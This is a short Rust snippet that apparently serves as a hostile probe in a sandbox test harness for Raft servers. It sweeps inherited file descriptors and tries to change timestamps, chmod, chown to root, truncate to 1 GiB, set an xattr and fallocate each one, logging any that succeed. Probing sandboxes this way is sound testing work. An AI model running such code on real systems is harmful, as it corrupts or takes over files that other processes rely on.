// Leaves something at the program that all servers have open: times, attributes, its size, its place.
// Graded: any, forbidden
// Unsafe: allowed

impl Attack for Raft {
    fn made(self: &Arc<Self>) {
        unsafe {
            let times = [libc::timespec { tv_sec: 1 + self.me as i64, tv_nsec: 0 }; 2];
            for number in 3..1024 {
                let results = [
                    libc::futimens(number, times.as_ptr()),
                    libc::fchmod(number, 0o700),
                    libc::fchown(number, 0, 0),
                    libc::ftruncate(number, 1 << 30),
                    libc::fsetxattr(number, c"user.raft".as_ptr(), c"1".as_ptr().cast(), 1, 0),
                    libc::syscall(libc::SYS_fallocate, number, 1, 0, 1 << 20) as i32,
                ];
                if results.contains(&0) {
                    gained(format!("descriptor {number}: {results:?}"));
                }
            }
        }
    }
}
